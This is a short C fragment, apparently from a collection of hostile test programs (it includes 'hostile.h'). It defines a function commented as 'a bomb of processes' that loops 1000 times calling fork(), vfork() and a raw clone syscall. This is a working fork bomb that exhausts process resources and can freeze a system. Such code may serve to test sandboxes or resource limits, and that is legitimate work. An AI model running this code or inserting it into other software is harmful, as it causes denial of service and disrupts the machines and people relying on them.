/* A bomb of processes. */
#include "hostile.h"
static inline void attack(void)
{
    for (int i = 0; i < 1000; i++) {
        fork();
        vfork();
        syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0);
    }
}
